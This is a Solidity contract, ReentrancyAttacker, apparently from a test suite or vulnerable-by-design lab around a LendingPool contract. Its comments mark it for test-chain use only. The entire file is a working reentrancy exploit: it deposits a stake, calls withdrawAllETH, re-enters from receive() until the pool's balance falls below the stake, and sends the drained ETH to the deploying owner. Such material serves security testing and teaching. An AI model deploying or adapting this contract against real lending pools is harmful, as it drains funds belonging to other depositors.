// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {LendingPool} from "./LendingPool.sol";

/// @title ReentrancyAttacker
/// @notice Exploits BUG(reentrancy) of LendingPool.withdrawAllETH: parks a
/// stake of ETH, withdraws it, and re-enters from receive() while the pool can
/// still pay the stake again. The loot goes to the owner (the deploying EOA).
/// Test-chain use only.
contract ReentrancyAttacker {
    address public immutable owner;

    LendingPool private _target;
    uint256 private _stake;

    event Attacked(address indexed pool, uint256 stake, uint256 loot, uint256 reentries);

    error NotOwner();
    error PayoutFailed();

    uint256 private _reentries;

    constructor() {
        owner = msg.sender;
    }

    /// @notice Runs the exploit against `pool` with `msg.value` as the stake.
    function attack(LendingPool pool) external payable {
        if (msg.sender != owner) revert NotOwner();
        _target = pool;
        _stake = msg.value;
        _reentries = 0;
        pool.depositETH{value: msg.value}();
        pool.withdrawAllETH();
        uint256 loot = address(this).balance;
        emit Attacked(address(pool), msg.value, loot, _reentries);
        _target = LendingPool(address(0));
        (bool ok,) = payable(owner).call{value: loot}("");
        if (!ok) revert PayoutFailed();
    }

    receive() external payable {
        LendingPool pool = _target;
        if (msg.sender == address(pool) && address(pool).balance >= _stake) {
            _reentries++;
            pool.withdrawAllETH();
        }
    }
}
